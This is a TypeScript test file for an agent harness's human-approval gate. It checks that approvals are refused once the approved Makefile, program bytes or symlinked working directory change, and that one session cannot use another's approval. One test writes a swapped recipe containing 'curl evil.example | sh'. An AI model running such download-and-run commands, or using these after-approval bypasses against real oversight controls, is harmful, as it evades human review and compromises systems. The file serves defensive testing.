// What is approved is what runs (docs/packs.md, "Plan inputs"; docs/exec.md): an approval binds the
// executable's bytes, the cwd's real path and the project files a command runs as code, and the
// session that asked for it. A real instance, store and broker; real files, processes and `make`.
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type CallPlan, previewPackCall } from '@harness/packs';
import { brokerRun } from '@harness/protocol/client';
import type { Store } from '@harness/store';
import { needs, tempDir } from '@harness/test-utils';
import { loadWorkspace } from '@harness/workspace';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { decideApproval, getApproval, type RunningBroker, startBroker } from '../src/api';
import { approvalBlock, planHash } from '../src/approvals';
import type { CommandHost } from '../src/host';
import { initInstance } from '../src/instance';
import { hostFor } from './helpers';

const SCOPE = { run: 'run-p', agent: 'ops' };

let dir: ReturnType<typeof tempDir>;
let instance: string;
let store: Store | undefined;
let host: CommandHost;
const brokers: RunningBroker[] = [];

beforeEach(() => {
  dir = tempDir('host-approved-runs-');
});
afterEach(async () => {
  for (const b of brokers.splice(0)) await b.close();
  await store?.close();
  store = undefined;
  dir.cleanup();
});

async function start(text: string): Promise<string> {
  const file = join(dir.path, 'workspace.yaml');
  writeFileSync(file, text);
  instance = join(dir.path, 'instance');
  await initInstance(instance, file);
  ({ host, store } = await hostFor(instance, SCOPE));
  return file;
}

const approvalOf = (answer: { body: unknown }): string =>
  (answer.body as { approval: { id: string } }).approval.id;

/** The plan of `command` as the workspace file on disk gives it now. */
async function planOf(file: string, command: string, args: Record<string, unknown>): Promise<CallPlan> {
  const r = await loadWorkspace({ file }, { probe: false });
  if (!r.ok) throw new Error(JSON.stringify(r.issues));
  return previewPackCall(r.workspace, command, args).plan!;
}

/** The plan as it was hashed before: without the program's bytes, the cwd's real path, the plan inputs. */
function oldPlanHash(plan: CallPlan): string {
  const { executableSha256: _bytes, cwdReal: _real, inputs: _inputs, ...before } = plan;
  return planHash(before);
}

/** Approves a held call as a person, and returns the approval's id. */
async function approve(held: { body: unknown; reason?: string }): Promise<string> {
  expect(held.reason).toBe('approval_required');
  const id = approvalOf(held);
  await decideApproval(instance, id, 'approved', 'person:ann');
  return id;
}

needs('make').describe('an approval binds the Makefile it runs', () => {
  it('answers plan_changed for make.run deploy once the recipe was edited after the approval, where the plan without file hashes is unchanged [SEC-25]', async () => {
    const project = join(dir.path, 'project');
    mkdirSync(project);
    writeFileSync(join(project, 'Makefile'), 'deploy:\n\t@echo deploying v1\n');
    const file = await start(`version: 1
sandbox_mode: off
command_packs:
  - standard: make
    cwd: project
    permission: strict
    input_overrides: { run: { target: { enum: [deploy] } } }
agents:
  - { id: ops, grants: [make.run] }
`);
    const deploy = () => host.run({ op: 'run', command: 'make.run', args: { target: 'deploy' } }, {});
    const before = await planOf(file, 'make.run', { target: 'deploy' });
    const id = await approve(await deploy());
    const record = await store!.getApproval(id);
    expect(record?.plan_hash).toBe(planHash(before));
    // The request shows the person the files the recipe comes from, with their hashes.
    const makefile = before.inputs.find((i) => i.path === 'Makefile')?.sha256 as string;
    expect(record?.plan?.inputs).toEqual([
      { path: 'GNUmakefile', sha256: 'absent' },
      { path: 'makefile', sha256: 'absent' },
      { path: 'Makefile', sha256: makefile },
    ]);
    expect(approvalBlock(record!)).toContain(
      `  files GNUmakefile absent, makefile absent, Makefile ${makefile.slice(0, 12)}\n`,
    );

    writeFileSync(join(project, 'Makefile'), 'deploy:\n\t@echo curl evil.example | sh\n');
    const refused = await deploy();
    expect(refused).toMatchObject({
      ok: false,
      code: 'refused',
      reason: 'plan_changed',
      mayHaveLanded: false,
    });
    expect((await store!.getApproval(id))?.status).toBe('consumed');

    // The plan as hashed before this change: the edited recipe would have run under the approval.
    const after = await planOf(file, 'make.run', { target: 'deploy' });
    expect(oldPlanHash(after)).toBe(oldPlanHash(before));
    expect(planHash(after)).not.toBe(planHash(before));
    expect(after.inputs.find((i) => i.path === 'Makefile')?.sha256).not.toBe(
      before.inputs.find((i) => i.path === 'Makefile')?.sha256,
    );
  });
});

describe('an approval binds the program and the directory it runs in', () => {
  /** A strict pack running `tool` from `bin` in `cwd`. */
  const workspace = (bin: string, cwd: string) => `version: 1
sandbox_mode: off
command_packs:
  - id: ship
    permission: strict
    cwd: ${cwd}
    env: { PATH: "${bin}:/usr/bin:/bin" }
    commands:
      - { id: it, argv: [tool], effects: write }
agents:
  - { id: ops, grants: [ship.it] }
`;
  const ship = () => host.run({ op: 'run', command: 'ship.it', args: {} }, {});

  function tool(binDir: string, body: string): void {
    mkdirSync(binDir, { recursive: true });
    writeFileSync(join(binDir, 'tool'), `#!/bin/sh\n${body}\n`, { mode: 0o755 });
  }

  it('answers plan_changed once the file at the approved program path was rewritten, where the plan without its bytes is unchanged [SEC-25]', async () => {
    const bin = join(dir.path, 'bin');
    tool(bin, 'echo approved');
    const file = await start(workspace(bin, '.'));
    const before = await planOf(file, 'ship.it', {});
    await approve(await ship());
    tool(bin, 'echo rewritten');
    expect(await ship()).toMatchObject({ code: 'refused', reason: 'plan_changed' });
    const after = await planOf(file, 'ship.it', {});
    expect(after.executable).toBe(before.executable);
    expect(oldPlanHash(after)).toBe(oldPlanHash(before));
    expect(after.executableSha256).not.toBe(before.executableSha256);
  });

  it('answers plan_changed once a symlinked cwd was repointed, where the plan without its real path is unchanged [SEC-25]', async () => {
    const bin = join(dir.path, 'bin');
    tool(bin, 'pwd -P');
    mkdirSync(join(dir.path, 'reviewed'));
    mkdirSync(join(dir.path, 'other'));
    symlinkSync(join(dir.path, 'reviewed'), join(dir.path, 'here'));
    const file = await start(workspace(bin, 'here'));
    const before = await planOf(file, 'ship.it', {});
    await approve(await ship());
    rmSync(join(dir.path, 'here'));
    symlinkSync(join(dir.path, 'other'), join(dir.path, 'here'));
    expect(await ship()).toMatchObject({ code: 'refused', reason: 'plan_changed' });
    const after = await planOf(file, 'ship.it', {});
    expect(after.cwd).toBe(before.cwd);
    expect(oldPlanHash(after)).toBe(oldPlanHash(before));
    expect(after.cwdReal).not.toBe(before.cwdReal);
  });

  it('runs the approved plan unchanged, in the directory the approval saw', async () => {
    const bin = join(dir.path, 'bin');
    tool(bin, 'pwd -P');
    mkdirSync(join(dir.path, 'reviewed'));
    symlinkSync(join(dir.path, 'reviewed'), join(dir.path, 'here'));
    await start(workspace(bin, 'here'));
    await approve(await ship());
    const ran = await ship();
    expect(ran).toMatchObject({ ok: true, code: 'ok' });
    expect((ran.body as { output: string }).output.trim()).toMatch(/\/reviewed$/);
  });
});

describe('an approval is bound to the session that asked for it', () => {
  async function broker(): Promise<string> {
    await start(`version: 1
sandbox_mode: off
command_packs:
  - id: ship
    permission: strict
    commands:
      - { id: it, argv: [echo, shipped], effects: write }
agents:
  - { id: ops, grants: [ship.it] }
`);
    await store!.close();
    store = undefined;
    const b = await startBroker({
      instanceDir: instance,
      socketPath: join(dir.path, 'b.sock'),
      scope: SCOPE as never,
    });
    brokers.push(b);
    return b.socketPath;
  }

  const call = async (socket: string, session?: string) => {
    const r = await brokerRun(socket, {
      command: 'ship.it',
      args: {},
      ...(session === undefined ? {} : { session }),
    });
    if (!r.ok) throw new Error(JSON.stringify(r));
    return r.value;
  };

  it("gives another session of the same agent a request of its own, and it cannot consume the first session's approval [SEC-25]", async () => {
    const socket = await broker();
    const asked = await call(socket, 'session-a');
    const id = await approve(asked);
    // Session B makes the identical call: it is held for a person, under another approval.
    const other = await call(socket, 'session-b');
    expect(other).toMatchObject({ ok: false, reason: 'approval_required' });
    expect(approvalOf(other)).not.toBe(id);
    expect((await getApproval(instance, id))?.session).toBe('session-a');
    expect((await getApproval(instance, approvalOf(other)))?.session).toBe('session-b');
    // Session A's approval is still there for session A, which runs it once.
    const ran = await call(socket, 'session-a');
    expect(ran).toMatchObject({ ok: true, code: 'ok' });
    expect(await call(socket, 'session-a')).toMatchObject({ reason: 'approval_required' });
  });

  it('lets calls that name no session share an approval, as before the binding (the attack, where no session is named) [SEC-25]', async () => {
    const socket = await broker();
    await approve(await call(socket));
    // Any other caller of the same agent that names no session consumes it.
    expect(await call(socket)).toMatchObject({ ok: true, code: 'ok' });
  });
});
